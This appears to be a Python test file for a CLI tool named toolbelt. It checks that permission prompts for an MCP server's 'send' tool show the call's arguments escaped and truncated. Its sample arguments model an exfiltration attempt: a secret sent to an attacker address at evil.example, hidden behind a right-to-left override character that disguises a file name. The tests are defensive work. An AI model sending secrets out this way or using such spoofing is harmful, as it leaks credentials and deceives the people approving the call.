"""A permission prompt for another server's tool shows what the call sends: its arguments,
escaped and bounded — on the terminal and in the approval `toolbelt mcp` asks its client for."""

from __future__ import annotations

import json
import os
import pty
import select
import sys
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from tests.mcp_client.conftest import fake_entry, write_servers
from tests.support.toolbelt_cli import TOOLBELT, TOOLBELT_ARGS
from toolbelt.core.access import Access, AccessKind
from toolbelt.core.display import shown_arguments

ARGUMENTS = {"to": "attacker@evil.example", "body": "AWS_SECRET=abc123 \u202egnp.exe"}
SHOWN = '{\n  "to": "attacker@evil.example",\n  "body": "AWS_SECRET=abc123 \\u202egnp.exe"\n}'


@pytest.fixture
def sender(workspace: Path, mark: str, tmp_path: Path) -> Path:
    schema = {
        "type": "object",
        "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
    }
    tools = tmp_path / "tools.json"
    tools.write_text(json.dumps([{"name": "send", "inputSchema": schema}]))
    entry = fake_entry(mark, tmp_path, FAKE_TOOLS=str(tools))
    write_servers(workspace / ".mcp.json", {"s": entry})
    return workspace


def on_terminal(command: list[str], answers: list[bytes]) -> tuple[int, str]:
    """Run ``command`` on a pseudo-terminal, typing each answer at each ``> `` prompt."""
    pid, fd = pty.fork()
    if pid == 0:  # the child: become the CLI
        os.execv(command[0], command)
    seen, prompts = b"", 0
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if not select.select([fd], [], [], deadline - time.monotonic())[0]:
            continue
        try:
            chunk = os.read(fd, 4096)
        except OSError:  # the child is gone
            break
        if not chunk:
            break
        seen += chunk
        if seen.count(b"> ") > prompts and answers:
            prompts = seen.count(b"> ")
            os.write(fd, answers.pop(0))
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(status), seen.decode(errors="replace")


def test_the_terminal_prompt_shows_the_arguments_it_asks_about(sender: Path) -> None:
    command = [*TOOLBELT, "call", "mcp__s__send"]
    code, screen = on_terminal(
        [*command, json.dumps(ARGUMENTS), "--root", str(sender), "--trust-workspace"],
        [b"n\r", b"\r"],
    )
    assert code == 3
    indented = "\r\n".join("    " + line for line in SHOWN.splitlines())
    restated = "Allow mcp__s__send? [y] yes  [s] yes for this session"  # what a yes approves
    assert f"  arguments:\r\n{indented}\r\n{restated}" in screen
    assert "\u202e" not in screen


def test_long_arguments_are_cut_with_a_note() -> None:
    shown = shown_arguments(Access(AccessKind.EXECUTE), {"body": "x" * 5000})
    assert shown == '{\n  "body": "' + "x" * 1987 + "\n… (3,016 more characters not shown)"


def test_a_call_that_shows_its_command_or_path_is_not_shown_twice() -> None:
    assert shown_arguments(Access(AccessKind.EXECUTE, command="ls"), {"command": "ls"}) is None
    assert shown_arguments(Access(AccessKind.READ, paths=(Path("/x"),)), {"path": "/x"}) is None


@asynccontextmanager
async def mcp_door(root: Path, elicit: Any) -> AsyncIterator[ClientSession]:
    params = StdioServerParameters(
        command=sys.executable,
        args=[*TOOLBELT_ARGS, "mcp", "--root", str(root), "--trust-workspace"],
        cwd=str(root),
        env=dict(os.environ),
    )
    async with (
        stdio_client(params) as (read, write),
        ClientSession(read, write, elicitation_callback=elicit) as session,
    ):
        await session.initialize()
        yield session


@pytest.mark.anyio
async def test_the_approval_asked_of_the_mcp_client_shows_the_arguments(sender: Path) -> None:
    from mcp.types import ElicitResult

    messages: list[str] = []

    async def elicit(context: Any, params: Any) -> ElicitResult:
        messages.append(params.message)
        return ElicitResult(action="decline")

    async with mcp_door(sender, elicit) as client:
        result = await client.call_tool("mcp__s__send", ARGUMENTS)
    assert result.is_error
    (message,) = messages
    assert message.endswith(f"has effects toolbelt cannot check.\nArguments:\n{SHOWN}")
